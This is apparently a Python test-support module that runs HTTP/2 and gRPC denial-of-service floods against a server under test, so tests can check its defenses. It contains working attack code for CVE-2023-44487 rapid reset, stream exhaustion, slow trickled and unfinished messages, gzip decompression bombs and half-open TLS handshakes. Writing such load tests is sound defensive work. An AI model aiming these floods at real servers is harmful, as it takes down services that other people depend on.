"""Floods, as somebody sends them who keeps no rule of HTTP/2.

    echo '{"target": {…}, "flood": {…}}' | python -m tests.support.floods

A process of its own, so that what it costs to attack is not mistaken for what it costs to be attacked. It writes frames by hand
with what h2 is made of: h2 itself respects the server's limits, and that is the last thing an attacker would do.
"""

import asyncio
import contextlib
import gzip
import json
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import asdict, dataclass
from enum import StrEnum
from typing import Any, Final

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL: Final = 8
MIB: Final = 1024 * 1024
FRAME_BYTES: Final = 16 * 1024
INITIAL_WINDOW: Final = 65_535
BATCH: Final = 100
TICK_SECONDS: Final = 0.05
SETTLE_SECONDS: Final = 10.0


class Kind(StrEnum):
    """What is sent; the table in docs/threat-model.md says what meets it."""

    SILENT = "silent calls"
    RESET = "rapid reset"
    STREAMS = "streams without end"
    UNFINISHED = "unfinished messages"
    UNPACKING = "messages that unpack"
    TRICKLED = "trickled messages"
    HALF_OPEN = "half-open handshakes"
    MUTE = "connections that say nothing"
    OVERSIZED = "oversized messages"
    UNDECODABLE = "undecodable messages"
    CALLS = "calls that keep the rules"


@dataclass(frozen=True, slots=True)
class Target:
    """Where to send it.

    Attributes:
        server_name: what the server's certificate says.
        root: PEM file.
        certificate: PEM file with chain, and its key, where the listener asks for one.
        path: of a unary method.
        metadata: sent with every call.
    """

    host: str
    port: int
    server_name: str
    root: str
    path: str
    certificate: str | None = None
    key: str | None = None
    metadata: Mapping[str, str] | None = None


@dataclass(frozen=True, slots=True)
class Flood:
    """How much of it.

    Attributes:
        streams: per connection; for kinds that hold streams open, those that are open at any moment.
        seconds: how long what is held open stays so.
        source: loopback address that it comes from.
        replaced: whether a half-open connection that the server has ended is followed by another.
        message: of calls that keep the rules, in hexadecimal.
    """

    kind: Kind
    connections: int
    streams: int
    seconds: float = 0.0
    source: str = "127.0.0.1"
    replaced: bool = False
    message: str = ""


@dataclass(slots=True)
class Report:
    """What was done, so that a test can see that there was a flood at all."""

    connections: int = 0
    streams: int = 0
    ended_by_server: int = 0
    hang_ups: int = 0
    bytes_sent: int = 0


class Connection:
    """One HTTP/2 connection, not a law-abiding one."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, report: Report) -> None:
        self.open: dict[int, int] = {}  # stream → bytes that the server still accepts on it
        self._reader = reader
        self._writer = writer
        self._report = report
        self._next_stream = 1
        self._window = INITIAL_WINDOW
        self._initial_window = INITIAL_WINDOW
        self._plain = _header_block(target)
        self._gzipped = _header_block(target, encoding="gzip")
        self._settled = asyncio.Event()
        writer.write(PREFACE + SettingsFrame(0).serialize())
        self._reading = asyncio.create_task(self._read())

    @property
    def is_up(self) -> bool:
        return not self._reading.done()

    def begin(self, *, gzipped: bool = False) -> tuple[int, bytes]:
        """Return a new stream and the frame that opens it."""
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        self.open[stream] = self._initial_window
        self._report.streams += 1
        block = self._gzipped if gzipped else self._plain
        return stream, HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()

    def data(self, stream: int, body: bytes, *, end: bool = False) -> bytes:
        self.open[stream] -= len(body)
        self._window -= len(body)
        return DataFrame(stream, body, flags=["END_STREAM"] if end else []).serialize()

    def may_send(self, stream: int) -> int:
        return max(0, min(self._window, self.open.get(stream, 0), FRAME_BYTES))

    async def send(self, frames: bytes) -> None:
        self._report.bytes_sent += len(frames)
        self._writer.write(frames)
        await self._writer.drain()

    async def settle(self) -> None:
        """Wait until the server has read everything: it answers a PING in its turn."""
        await self.send(PingFrame(0, b"settled?").serialize())
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(SETTLE_SECONDS):
                await asyncio.wait([self._reading, asyncio.create_task(self._settled.wait())], return_when=asyncio.FIRST_COMPLETED)

    async def close(self) -> None:
        self._reading.cancel()
        self._writer.transport.abort()
        with contextlib.suppress(asyncio.CancelledError, OSError, asyncio.IncompleteReadError):
            await self._reading

    async def _read(self) -> None:
        while True:
            frame, length = Frame.parse_frame_header(memoryview(await self._reader.readexactly(9)))
            frame.parse_body(memoryview(await self._reader.readexactly(length)))
            match frame:
                case SettingsFrame() if "ACK" not in frame.flags:
                    self._initial_window = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, self._initial_window)
                    self._writer.write(SettingsFrame(0, flags=["ACK"]).serialize())
                case PingFrame() if "ACK" not in frame.flags:
                    self._writer.write(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
                case PingFrame():
                    self._settled.set()
                case WindowUpdateFrame(stream_id=0):
                    self._window += frame.window_increment
                case WindowUpdateFrame(stream_id=stream) if stream in self.open:
                    self.open[stream] += frame.window_increment
                case GoAwayFrame():
                    self._report.hang_ups += 1
                case RstStreamFrame() | HeadersFrame() if isinstance(frame, RstStreamFrame) or "END_STREAM" in frame.flags:
                    self._report.ended_by_server += self.open.pop(frame.stream_id, None) is not None
                case _:
                    pass


class Attacker:
    """One flood on one target."""

    def __init__(self, target: Target, flood: Flood) -> None:
        self.report: Final = Report()
        self._target = target
        self._flood = flood
        self._tls = ssl.create_default_context(cafile=target.root)
        self._tls.set_alpn_protocols(["h2"])
        if target.certificate:
            self._tls.load_cert_chain(target.certificate, target.key)
        self._ends = time.monotonic() + flood.seconds

    async def run(self) -> Report:
        act: dict[Kind, Callable[[Connection], Awaitable[None]]] = {
            Kind.SILENT: self._silent,
            Kind.RESET: self._reset,
            Kind.STREAMS: self._streams,
            Kind.UNFINISHED: self._unfinished,
            Kind.UNPACKING: self._unpacking,
            Kind.TRICKLED: self._trickled,
            Kind.MUTE: self._mute,
            Kind.OVERSIZED: self._oversized,
            Kind.UNDECODABLE: self._undecodable,
            Kind.CALLS: self._calls,
        }
        if self._flood.kind is Kind.HALF_OPEN:
            await asyncio.gather(*(self._half_open() for _ in range(self._flood.connections)))
        else:
            await asyncio.gather(*(self._on_connection(act[self._flood.kind]) for _ in range(self._flood.connections)))
        return self.report

    async def _on_connection(self, act: Callable[[Connection], Awaitable[None]]) -> None:
        connection = await self._connect()
        try:
            await act(connection)
        except OSError:  # the server has had enough of this connection
            self.report.hang_ups += 1
        finally:
            await connection.close()

    async def _connect(self) -> Connection:
        reader, writer = await asyncio.open_connection(
            self._target.host,
            self._target.port,
            ssl=self._tls,
            server_hostname=self._target.server_name,
            local_addr=(self._flood.source, 0),
        )
        self.report.connections += 1
        return Connection(reader, writer, self._target, self.report)

    async def _silent(self, connection: Connection) -> None:
        """Headers, and then nothing; every call that the server ends is replaced."""
        await self._held(connection, b"")

    async def _trickled(self, connection: Connection) -> None:
        """A message of a hundred bytes, one byte a tick."""
        await self._held(connection, struct.pack(">?I", False, 100), trickle=b"\n")

    async def _held(self, connection: Connection, beginning: bytes, trickle: bytes = b"") -> None:
        while connection.is_up and time.monotonic() < self._ends:
            frames = [connection.data(stream, trickle) for stream in connection.open if trickle]
            while len(connection.open) < self._flood.streams:
                stream, headers = connection.begin()
                frames.append(headers + (connection.data(stream, beginning) if beginning else b""))
            await connection.send(b"".join(frames))
            await asyncio.sleep(TICK_SECONDS)

    async def _reset(self, connection: Connection) -> None:
        """CVE-2023-44487: a stream is opened and reset before anybody can count it as open."""
        for _ in range(0, self._flood.streams, BATCH):
            frames = []
            for _ in range(BATCH):
                stream, headers = connection.begin()
                del connection.open[stream]
                frames.append(headers + RstStreamFrame(stream, CANCEL).serialize())
            await connection.send(b"".join(frames))
        await connection.settle()

    async def _streams(self, connection: Connection) -> None:
        """As many streams as the flood says, whatever the server allows, none of them ended."""
        for _ in range(0, self._flood.streams, BATCH):
            await connection.send(b"".join(connection.begin()[1] for _ in range(BATCH)))
            # The server's refusals have to be read, or they would hold the sender up.
            await asyncio.sleep(0)
        await connection.settle()

    async def _unfinished(self, connection: Connection) -> None:
        """Messages of 4 MiB of which all but the last byte comes, as fast as flow control allows; refused ones are replaced."""
        missing: dict[int, int] = {}
        while connection.is_up and time.monotonic() < self._ends:
            frames = []
            while len(connection.open) < self._flood.streams:
                stream, headers = connection.begin()
                frames.append(headers + connection.data(stream, struct.pack(">?I", False, 4 * MIB)))
                missing[stream] = 4 * MIB - 1
            for stream in connection.open:
                while size := min(connection.may_send(stream), missing[stream]):
                    frames.append(connection.data(stream, bytes(size)))
                    missing[stream] -= size
            await connection.send(b"".join(frames))
            await asyncio.sleep(TICK_SECONDS if not frames else 0)

    async def _unpacking(self, connection: Connection) -> None:
        """Messages of 4 KiB that unpack to 4 MiB."""
        body = gzip.compress(bytes(4 * MIB))
        message = struct.pack(">?I", True, len(body)) + body
        while connection.is_up and time.monotonic() < self._ends:
            while len(connection.open) < self._flood.streams:
                stream, headers = connection.begin(gzipped=True)
                if connection.may_send(stream) < len(message):
                    await connection.send(headers)
                    break
                await connection.send(headers + connection.data(stream, message, end=True))
            await asyncio.sleep(TICK_SECONDS)

    async def _mute(self, connection: Connection) -> None:
        """A finished handshake, and not one call."""
        while connection.is_up and time.monotonic() < self._ends:
            await asyncio.sleep(TICK_SECONDS)

    async def _oversized(self, connection: Connection) -> None:
        """Messages that say that they are of 100 KiB, and are."""
        await self._whole(connection, bytes(100 * 1024))

    async def _undecodable(self, connection: Connection) -> None:
        """Messages that protobuf cannot read."""
        await self._whole(connection, b"\xff" * 200)

    async def _calls(self, connection: Connection) -> None:
        """What an honest client sends, as fast as it is answered."""
        await self._whole(connection, bytes.fromhex(self._flood.message))

    async def _whole(self, connection: Connection, body: bytes) -> None:
        message = struct.pack(">?I", False, len(body)) + body
        rest: dict[int, bytes] = {}
        while connection.is_up and time.monotonic() < self._ends:
            frames = []
            while len(connection.open) < self._flood.streams:
                stream, headers = connection.begin()
                frames.append(headers)
                rest[stream] = message
            for stream in list(connection.open):
                while rest[stream] and (size := min(connection.may_send(stream), len(rest[stream]))):
                    part, rest[stream] = rest[stream][:size], rest[stream][size:]
                    frames.append(connection.data(stream, part, end=not rest[stream]))
            await connection.send(b"".join(frames))
            await asyncio.sleep(TICK_SECONDS)

    async def _half_open(self) -> None:
        """The first five bytes of a ClientHello record, until the server has had enough; then again."""
        await self._half_open_once()
        while self._flood.replaced and time.monotonic() < self._ends:
            await self._half_open_once()

    async def _half_open_once(self) -> None:
        reader, writer = await asyncio.open_connection(self._target.host, self._target.port, local_addr=(self._flood.source, 0))
        self.report.connections += 1
        writer.write(b"\x16\x03\x01\x02\x00")
        with contextlib.suppress(TimeoutError, ConnectionResetError):
            async with asyncio.timeout(max(0.0, self._ends - time.monotonic())):
                await reader.read()
                self.report.hang_ups += 1
        writer.transport.abort()


def _header_block(target: Target, encoding: str | None = None) -> bytes:
    """The same bytes for every stream: nothing of it goes into a dynamic table."""
    headers = {
        ":method": "POST",
        ":scheme": "https",
        ":path": target.path,
        ":authority": target.server_name,
        "content-type": "application/grpc",
        "te": "trailers",
        **(target.metadata or {}),
    }
    if encoding:
        headers["grpc-encoding"] = encoding
    block: bytes = Encoder().encode([NeverIndexedHeaderTuple(name, value) for name, value in headers.items()])
    return block


async def send(target: Target, flood: Flood) -> Report:
    """Run the flood in a process of its own and wait for its end."""
    pipe = asyncio.subprocess.PIPE
    process = await asyncio.create_subprocess_exec(sys.executable, "-m", __name__, stdin=pipe, stdout=pipe, stderr=pipe)
    order = json.dumps({"target": asdict(target), "flood": asdict(flood)})
    try:
        out, errors = await process.communicate(order.encode())
    finally:
        if process.returncode is None:
            process.kill()
            await process.wait()
    if process.returncode:
        raise RuntimeError(f"the attacker failed, not the attack:\n{errors.decode()}")
    return Report(**json.loads(out))


def main() -> None:
    order: dict[str, Any] = json.load(sys.stdin)
    flood = Flood(**{**order["flood"], "kind": Kind(order["flood"]["kind"])})
    report = asyncio.run(Attacker(Target(**order["target"]), flood).run())
    sys.stdout.write(json.dumps(asdict(report)))


if __name__ == "__main__":
    main()
